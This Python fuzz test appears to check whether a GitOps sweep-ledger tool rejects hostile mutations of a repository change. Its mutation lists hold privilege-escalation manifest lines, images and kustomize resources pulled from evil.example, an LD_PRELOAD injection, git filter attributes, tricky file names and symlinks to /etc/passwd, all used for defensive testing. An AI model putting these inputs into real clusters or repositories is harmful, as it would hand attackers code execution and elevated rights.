"""Random mutations of a valid change, and whether one that is accepted changes what runs, or with which rights.

The oracle knows nothing of the check: it compares what git would merge with the base and with what `generate` writes.
"""

import hashlib
import random
import shutil
import subprocess
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any
from unittest import mock

from sweepledger.errors import GeneratorError
from sweepledger.operations.generation.next_batch import generate_batches as generate
from sweepledger.operations.scaffold import bootstrap
from sweepledger.operations.scaffold.bootstrap import BootstrapRequest
from sweepledger.problems import Severity
from sweepledger.repo import batches, kustomize
from sweepledger.repo.git import index_attributes
from sweepledger.repo.inputs import PlatformFiles, read_bootstrap
from sweepledger.repo.state import leads_into_state
from sweepledger.structs.platform import CLUSTERS, GitSource
from sweepledger.structs.settings import Controller
from tests.operations.test_bootstrap import URL
from tests.operations.test_read import recorded
from tests.repository import Sandbox

SETTINGS = f"defaults: {{image: registry.example.org/trainer@sha256:{'1' * 64}}}\n"
FOLDERS = ("overlays", "base", "sweeps", "results", "clusters")
GUARDED = ("overlays/", "base/", "sweeps/", "results/", "clusters/", "sweepledger.yaml")
HOSTILE_LINES = (
    'image: "evil.example/x@sha256:' + "2" * 64 + '"',
    "hostNetwork: true",
    "privileged: true",
    "runAsUser: 0",
    "automountServiceAccountToken: true",
    'serviceAccountName: "sweep-collector"',
    '- "https://evil.example/x?ref=main"',
    '- name: "LD_PRELOAD"',
    'value: "/sweep/results/evil.so"',
    'namespace: "kube-system"',
    "failurePolicy: Ignore",
    'validationActions: ["Warn"]',
    "replicas: 1000",
    "parallelism: 1000",
    "activeDeadlineSeconds: 99999999",
    'cpu: "640"',
    'claimName: "home"',
    'tree: "' + "3" * 40 + '"',
    'digest: "sha256:' + "4" * 64 + '"',
    "cancel: []",
    "repository: https://evil.example/sweeps.git",
    "signers: []",
    "policy: {restricted: false}",
    "* filter=lfs",
    '"*"ident',
    "exit 0",
    "---",
    "...",
    "x: &a [*a]",
    "\x0b",
    "",
)
HOSTILE_NAMES = (
    *(".gitattributes", ".gitmodules", ".lfsconfig", ".sourceignore", ".argocd-source.yaml", ".krmignore"),
    *("kustomization.yml", "Kustomization", "Chart.yaml", "values.yaml", "plugin.py", "__pycache__/x.pyc"),
    *("launch.py", "-rf", "a b.yaml", "é.yaml", "extra.yaml", "x\u202ey.yaml", ".sweepledger/code/x"),
    ".git./config",
)
HOSTILE_TEXTS = (
    "resources: [https://evil.example/x]\n",
    "apiVersion: v1\nkind: Pod\nmetadata: {name: evil}\nspec: {hostNetwork: true}\n",
    "* filter=lfs\n",
    "#!/bin/sh\nexit 0\n",
    "",
)
REWRITING = {"filter", "ident", "export-subst", "export-ignore", "working-tree-encoding"}
LINE_ENDS = {("eol", "crlf"), ("crlf", "set"), ("crlf", "input")}
PLACES = (
    *("overlays/active/", "overlays/active/", "overlays/archive/", "base/", "clusters/"),
    *("clusters/platform/", "sweeps/", "sweepledger.yaml", "results/", ".gitattributes", ".gitignore"),
    "clusters/flux/",
)

REAL_BUILD = kustomize.build

Entries = Mapping[str, tuple[str, str]]
"""Mode and blob of each path that git would merge."""


@dataclass(frozen=True)
class Verdict:
    """What became of a mutation."""

    mutation: str
    codes: frozenset[str]
    """The codes of the check's errors; empty: the change was accepted."""
    harm: str = ""
    """What an accepted change would do that it must not."""


@dataclass(frozen=True)
class Change:
    """A repository with a platform, a recorded and an active sweep, and a valid change that adds a third."""

    sandbox: Sandbox
    start: str
    base: Entries
    valid: Entries
    builds: dict[str, tuple[Mapping[str, Any], ...]] = field(default_factory=dict)
    """What kustomize made, by digest of all that it could read: few mutations change that."""

    @classmethod
    def built(cls, folder: Path) -> "Change":
        """Build it once; each mutation starts from it again."""
        sandbox = Sandbox.create(folder)
        sandbox.write("sweepledger.yaml", SETTINGS)
        sandbox.publish("Settings", {".gitattributes": "* text=auto eol=lf\n"})
        recorded(sandbox, folder / "volume", "1, 2")
        sandbox.propose("running", "3, 4")
        bootstrap.bootstrap(sandbox.workspace, BootstrapRequest(Controller.FLUX, URL, "main"))
        sandbox.publish("Bootstrap, and ask for a second sweep")
        base = entries(sandbox)
        sandbox.propose("new", "5, 6")
        start = sandbox.commit("Ask for a third")
        return cls(sandbox, start, base, entries(sandbox))

    def mutated(self, rng: random.Random) -> Verdict:
        """Mutate the change, check it, and look at what an accepted one would do."""
        self.restore()
        mutation = mutate(self.sandbox, rng)
        results = entries(self.sandbox)
        try:
            with mock.patch.object(kustomize, "build", self.build):
                problems = self.sandbox.check(base="origin/main").problems
        except GeneratorError as error:
            return Verdict(mutation, frozenset({type(error).__name__}))
        codes = frozenset(problem.code for problem in problems if problem.severity is Severity.ERROR)
        return Verdict(mutation, codes, "" if codes else self.harm(results))

    def restore(self) -> None:
        self.sandbox.git("reset", "-q", "--hard", self.start)
        self.sandbox.git("clean", "-q", "-ffdx", "--exclude=/.sweepledger")

    def build(self, folder: Path) -> tuple[Mapping[str, Any], ...]:
        """Build a folder with kustomize, unless it built these files before."""
        digest = hashlib.sha256(folder.name.encode())
        for place in (folder, self.sandbox.root / "base"):
            for path in sorted(place.rglob("*")):
                is_file = path.is_file()
                state = (path.as_posix(), path.lstat().st_mode, path.read_bytes() if is_file else b"")
                digest.update(repr(state).encode())
        key = digest.hexdigest()
        if key not in self.builds:
            self.builds[key] = REAL_BUILD(folder)
        return self.builds[key]

    def harm(self, results: Entries) -> str:
        """Return what differs from what the generator writes; nothing where all that runs is as it was."""
        return next(self._harms(results), "")

    def _harms(self, results: Entries) -> Iterator[str]:
        workspace = self.sandbox.workspace
        active = [batch for batch in batches.in_work_tree(self.sandbox.root) if batch.is_active]
        used = tuple(f"base/{name}/" for batch in active for name in batch.lock.bases)
        for path in sorted(results.keys() | self.valid.keys()):
            if results.get(path) == self.valid.get(path) or path.rpartition("/")[2] == ".gitkeep":
                continue
            is_guarded = path in FOLDERS or path.startswith(GUARDED)
            if path in results and is_guarded and results[path][0] != "100644":
                yield f"{path} has mode {results[path][0]}"
            if leads_into_state(path):
                yield f"{path} is state"
            if path.startswith(("results/", "overlays/archive/", "overlays/active/running-")):
                yield f"{path} was merged before"
            if path.startswith(used):
                yield f"{path} is used by an active batch"
        guarded = [path for path in results if path.startswith(GUARDED)]
        for path, attributes in index_attributes(workspace.repository, guarded).items():
            yield from (
                f"{path} has {attribute}"
                for attribute in attributes
                if attribute[0] in REWRITING or attribute in LINE_ENDS
            )
        record = read_bootstrap(self.sandbox.root)
        if record is None or record.url != URL:
            yield "another repository is followed"
        else:
            source = GitSource(URL, record.branch, record.shapes, is_public=record.public)
            active = [batch for batch in batches.in_work_tree(self.sandbox.root) if batch.is_active]
            compared = bootstrap.compare_platform(
                PlatformFiles.read(self.sandbox.root, CLUSTERS),
                workspace.settings,
                source,
                record,
                batches.readable(active),
            )
            for path in (*compared.missing, *compared.changed, *compared.edited, *compared.foreign):
                yield f"{path} is not what the settings give"
        generate(workspace)
        status = self.sandbox.git("status", "--porcelain", "--", "overlays", "clusters")
        yield from (f"generate writes {line[3:]}" for line in status.splitlines() if line[1] != " ")


def entries(sandbox: Sandbox) -> Entries:
    """Return what git would merge, after `git add --all`."""
    # A pushed tree may have a name like `.git.`, which git does not add by default.
    command = ["git", "-c", "core.protectNTFS=false", "add", "--all"]
    subprocess.run(command, cwd=sandbox.root, check=True, capture_output=True)  # its warnings may be no text
    listed = sandbox.git("ls-files", "--stage", "-z").split("\0")
    pairs = (line.split("\t", 1) for line in listed if line)
    return {path: (meta.split(" ")[0], meta.split(" ")[1]) for meta, path in pairs}


def mutate(sandbox: Sandbox, rng: random.Random) -> str:
    """Mutate one file, or the set of files, below a random place; return what was done."""
    place = rng.choice(PLACES)
    files = [path for path in sandbox.git("ls-files", "-z").split("\0") if path.startswith(place)]
    if not files:
        return f"nothing in {place}"
    path = rng.choice(files)
    ways: dict[str, Callable[[Path], str]] = {
        **{name: partial(_edit, edit=edit, rng=rng) for name, edit in EDITS.items()},
        "added": lambda file: _added(file.parent, rng),
        "removed": _removed,
        "renamed": _renamed,
        "executable": _executable,
        "a link": lambda file: _link(file, rng),
        "a linked folder": lambda file: _linked_folder(sandbox.root, file.relative_to(sandbox.root), rng),
        "copied": lambda file: str(
            shutil.copy(file, sandbox.root / rng.choice(files).rpartition("/")[0] / "copy.yaml")
        ),
    }
    way = rng.choice([*EDITS, *EDITS, *ways])
    return f"{way} {path} {ways[way](sandbox.root / path)}"


def _edit(file: Path, edit: Callable[[list[bytes], random.Random], list[bytes]], rng: random.Random) -> str:
    before = file.read_bytes()
    after = b"\n".join(edit(before.split(b"\n"), rng))
    file.write_bytes(after)
    return "" if before != after else "(the same)"


def _line(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    return [*lines[:at], _hostile(lines[at], rng), *lines[at + 1 :]]


def _inserted(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    return [*lines[:at], _hostile(lines[at], rng), *lines[at:]]


def _hostile(beside: bytes, rng: random.Random) -> bytes:
    return beside[: len(beside) - len(beside.lstrip())] + rng.choice(HOSTILE_LINES).encode()


def _deleted(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    return [*lines[:at], *lines[at + 1 :]]


def _twice(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    return [*lines[: at + 1], *lines[at:]]


def _swapped(lines: list[bytes], rng: random.Random) -> list[bytes]:
    number, other = rng.randrange(len(lines)), rng.randrange(len(lines))
    lines[number], lines[other] = lines[other], lines[number]
    return lines


def _token(lines: list[bytes], rng: random.Random) -> list[bytes]:
    """Put a word of one line in the place of a word of another."""
    number, other = rng.randrange(len(lines)), rng.randrange(len(lines))
    words, more = lines[number].split(b" "), lines[other].split(b" ")
    words[rng.randrange(len(words))] = rng.choice(more)
    lines[number] = b" ".join(words)
    return lines


def _byte(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    line = bytearray(lines[at] or b" ")
    line[rng.randrange(len(line))] = rng.randrange(256)
    lines[at] = bytes(line)
    return lines


def _indented(lines: list[bytes], rng: random.Random) -> list[bytes]:
    at = rng.randrange(len(lines))
    lines[at] = lines[at][2:] if rng.random() < 0.5 else b"  " + lines[at]
    return lines


def _carriage_returns(lines: list[bytes], _rng: random.Random) -> list[bytes]:
    return [line + b"\r" for line in lines]


def _tail(lines: list[bytes], rng: random.Random) -> list[bytes]:
    return [*lines, rng.choice(HOSTILE_TEXTS).encode()]


EDITS: dict[str, Callable[[list[bytes], random.Random], list[bytes]]] = {
    "another line": _line,
    "a line more": _inserted,
    "a line less": _deleted,
    "a line twice": _twice,
    "lines swapped": _swapped,
    "another word": _token,
    "another byte": _byte,
    "another indentation": _indented,
    "other line ends": _carriage_returns,
    "a text at the end": _tail,
}


def _removed(file: Path) -> str:
    file.unlink()
    return ""


def _renamed(file: Path) -> str:
    return file.rename(file.with_name(file.name.swapcase())).name


def _executable(file: Path) -> str:
    file.chmod(0o755)
    return ""


def _added(folder: Path, rng: random.Random) -> str:
    path = folder / rng.choice(HOSTILE_NAMES)
    if path.exists():
        return "(there already)"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(rng.choice(HOSTILE_TEXTS))
    # As a hostile author would, whatever `.gitignore` says.
    command = ["git", "-c", "core.protectNTFS=false", "add", "--force", "--", str(path)]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return path.name


def _link(file: Path, rng: random.Random) -> str:
    file.unlink()
    file.symlink_to(rng.choice(("/etc/passwd", "../../.sweepledger/code", "job.yaml", "../..", "nowhere")))
    return file.readlink().as_posix()


def _linked_folder(root: Path, file: Path, rng: random.Random) -> str:
    """Move a folder of the file elsewhere, and leave a link to it."""
    folders = file.parents[:-1]
    if not folders:
        return "(in no folder)"
    place = rng.choice(folders)
    (root / place).rename(root / "moved")
    (root / place).symlink_to(root / "moved")
    return place.as_posix()
